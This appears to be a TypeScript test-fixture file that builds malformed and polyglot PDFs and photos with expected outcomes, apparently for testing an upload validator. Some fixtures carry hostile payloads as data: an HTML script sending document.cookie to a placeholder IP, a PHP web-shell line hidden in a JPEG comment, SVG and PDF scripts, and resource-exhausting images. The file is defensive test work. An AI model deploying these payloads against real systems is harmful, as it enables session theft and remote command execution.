import { zipSync } from 'fflate';
import { claiming, takePhoto, withSegment } from './jpegFile.ts';
import { type NastyFile, nasty } from './nastyFile.ts';
import { latin1, onePage, writePdf } from './pdfFile.ts';

const PROGRAM = latin1(`MZ\x90\x00\x03\x00\x00\x00${'\0'.repeat(50)}This program cannot be run in DOS mode.\r\n$`);
const archive = (): Buffer => Buffer.from(zipSync({ 'facture.exe': PROGRAM }));
const PAGE = '<html><script>fetch("//192.0.2.7/"+document.cookie)</script></html>';
const join = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin1(part) : part)));

/** Other kinds of files that hold a PDF or a photo, or pass themselves off as one. */
export const polyglots: readonly NastyFile[] = [
  nasty('a page of HTML that holds a PDF', 'other', () => join('<!--\n', onePage(), `-->${PAGE}`)),
  nasty('a drawing in SVG that holds a PDF', 'other', () =>
    join('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!--\n', onePage(), '--></svg>'),
  ),
  nasty('XML that holds a PDF', 'other', () => join('<?xml version="1.0"?><x><![CDATA[\n', onePage(), ']]></x>')),
  nasty('a script of a shell that holds a PDF', 'other', () => join('#!/bin/sh\nexit\n', onePage())),
  nasty('a program, then a PDF', 'other', () => join(PROGRAM, onePage())),
  nasty('an archive, then a PDF', 'office', () => join(archive(), onePage())),
  nasty('an animated image, then a PDF', 'other', () => join('GIF89a', '\0'.repeat(20), onePage())),
  nasty('PostScript that holds a PDF', 'other', () => join('%!PS-Adobe-3.0\n', onePage())),
  nasty('a PDF, then an archive', 'rewritten', () => join(onePage(), archive())),
  nasty('a PDF, then a program', 'rewritten', () => join(onePage(), PROGRAM)),
  nasty('a PDF, then a page of HTML', 'rewritten', () => join(onePage(), PAGE)),
  nasty('a PDF, then megabytes of an archive', 'rewritten', () =>
    join(onePage(), Buffer.from(zipSync({ a: Buffer.alloc(2_000_000, 'MZ abc') }, { level: 0 }))),
  ),
  nasty('the first signs of a PDF, then HTML', ['cut', 'unreadable'], () => join('%PDF-1.7\n', PAGE)),
  nasty('the first and last signs of a PDF, HTML between', 'unreadable', () => join('%PDF-1.7\n', PAGE, '\n%%EOF\n')),
  nasty('half a PDF', 'cut', () => onePage().subarray(0, 300)),
  nasty('a PDF that stops after an early end mark', 'cut', () =>
    join('%PDF-1.7\n1 0 obj\n<< >>\nendobj\nstartxref\n0\n%%EOF\n2 0 obj\n', onePage().subarray(60, 400)),
  ),
  nasty('a PDF without pages', 'unreadable', () =>
    writePdf({ objects: ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'] }),
  ),
  nasty('a PDF whose catalog is missing', 'unreadable', () => writePdf({ objects: ['<< /Type /Nothing >>'] })),
  nasty('nothing at all', 'empty', () => Buffer.alloc(0)),
  nasty('a page of HTML', 'other', () => latin1(PAGE)),
  nasty('a drawing in SVG', 'other', () => latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
  nasty('a program', 'other', () => PROGRAM),
  nasty('an archive', 'office', archive),
  nasty('an old office document', 'office', () => join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '\0'.repeat(600))),
  nasty('a film', 'other', () => join('\0\0\0\x18ftypisom', '\0'.repeat(30))),
  nasty('a file of over 25 MB', 'too-large', () => join(onePage(), Buffer.alloc(25 * 1024 * 1024))),
];

export const nastyPhotos: readonly NastyFile[] = [
  nasty('a photo that says it has 65,500 × 65,500 points', 'too-many-pixels', async () =>
    claiming(await takePhoto(), 65_500, 65_500),
  ),
  nasty('a photo that says it has 65,500 × 700 points', ['cut', 'unreadable'], async () =>
    claiming(await takePhoto(), 65_500, 700),
  ),
  nasty('a photo without an image', ['cut', 'unreadable'], async () => (await takePhoto()).subarray(0, 200)),
  nasty('the first and last signs of a photo', ['cut', 'unreadable'], () =>
    latin1('\xff\xd8\xff\xe0\x00\x04\x00\x00\xff\xd9'),
  ),
  nasty('half a photo', ['cut', 'unreadable'], async () => {
    const whole = await takePhoto();
    return whole.subarray(0, whole.length / 2);
  }),
  nasty('half a photo with an end mark', ['cut', 'unreadable'], async () => {
    const whole = await takePhoto();
    return join(whole.subarray(0, whole.length / 2), '\xff\xd9');
  }),
  nasty('half a progressive photo', ['cut', 'unreadable'], async () => {
    const whole = await takePhoto({ progressive: true });
    return whole.subarray(0, whole.length / 2);
  }),
  nasty('a photo of no width', ['cut', 'unreadable'], async () => claiming(await takePhoto(), 0, 240)),
  nasty('a photo, then an archive', 'rewritten', async () => join(await takePhoto(), archive())),
  nasty('a photo, then a PDF with a script', 'rewritten', async () =>
    join(await takePhoto(), onePage({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' })),
  ),
  nasty('a photo with HTML in its comment', 'rewritten', async () =>
    withSegment(await takePhoto(), 0xfe, latin1(PAGE)),
  ),
  nasty('a photo with a PDF in a segment', 'rewritten', async () => withSegment(await takePhoto(), 0xef, onePage())),
  nasty('a photo with PHP in its copyright and a place', 'rewritten', async () =>
    withSegment(await takePhoto({ orientation: 6 }), 0xfe, latin1('<?php system($_GET[0]); ?>')),
  ),
  nasty('a photo with a broken colour profile', ['rewritten', 'unreadable'], async () =>
    withSegment(await takePhoto(), 0xe2, join('ICC_PROFILE\x00\x01\x01', '\xff'.repeat(4000))),
  ),
  nasty('a photo with broken EXIF', 'rewritten', async () =>
    withSegment(await takePhoto(), 0xe1, join('Exif\0\0MM\0*\xff\xff\xff\xff', '\xff'.repeat(500))),
  ),
  nasty('a progressive photo that repeats a scan four hundred times', ['rewritten', 'unreadable', 'cut'], async () => {
    const photo = await takePhoto({ width: 3000, height: 2000, progressive: true });
    const scan = photo.lastIndexOf(Buffer.from([0xff, 0xda]));
    const last = photo.subarray(scan, photo.length - 2);
    return join(
      photo.subarray(0, -2),
      ...Array.from({ length: Math.min(400, Math.floor(4e6 / last.length)) }, () => last),
      '\xff\xd9',
    );
  }),
];
